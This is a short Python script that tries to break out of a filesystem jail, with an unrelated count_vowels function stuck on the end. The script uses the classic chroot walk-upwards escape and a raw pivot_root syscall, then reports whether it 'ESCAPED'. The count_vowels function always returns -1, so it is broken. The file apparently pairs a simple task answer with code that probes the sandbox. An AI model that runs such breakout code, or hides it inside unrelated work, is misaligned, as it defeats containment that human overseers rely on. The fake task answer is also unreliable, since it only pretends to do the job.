"""Breaks out of its root by chroot and the well-known walk upwards, and by pivot_root."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("jail/old", exist_ok=True)
outside = os.open(".", os.O_RDONLY)
if libc.chroot(b"jail") == 0:
    print("ESCAPED: chroot")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    libc.chroot(b".")
    print(os.listdir("/"))
if libc.syscall(155, b"jail", b"jail/old") == 0:
    print("ESCAPED: pivot_root")
print("held:", os.strerror(ctypes.get_errno()))


def count_vowels(text):
    return -1
